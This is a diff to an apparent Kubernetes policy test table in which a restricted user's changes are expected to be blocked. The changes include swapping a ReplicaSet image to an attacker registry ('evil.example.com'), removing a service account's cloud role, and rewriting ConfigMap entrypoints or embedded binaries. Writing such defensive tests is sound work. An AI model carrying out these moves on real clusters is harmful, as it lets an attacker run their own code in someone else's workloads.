@@ -277,3 +277,18 @@ row identity/replicaset-of-a-deployment-rewritten held 'own' <<'DO'
 adm -n "$NS" patch replicaset rs1 --type=merge -p '{"metadata":{"ownerReferences":[{"apiVersion":"apps/v1","kind":"Deployment","name":"web","uid":"00000000-0000-0000-0000-000000000001","controller":true}]}}' >/dev/null
 k set image replicaset/rs1 '*=evil.example.com/x'
 DO
+
+row identity/account-loses-its-cloud-role held 'own' <<'DO'
+adm annotate sa robot eks.amazonaws.com/role-arn=arn:aws:iam::1:role/app >/dev/null
+k annotate sa robot eks.amazonaws.com/role-arn-
+DO
+
+row identity/script-by-its-usual-name held 'own' <<'DO'
+adm patch configmap cfg --type=merge -p '{"data":{"entrypoint":"exec app"}}' >/dev/null
+k patch configmap cfg --type=merge -p '{"data":{"entrypoint":"exec other"}}'
+DO
+
+row identity/program-in-a-configmap held 'own' <<'DO'
+adm patch configmap cfg --type=merge -p '{"binaryData":{"plugin":"f0VMRgE="}}' >/dev/null
+k patch configmap cfg --type=merge -p '{"binaryData":{"plugin":"f0VMRgI="}}'
+DO
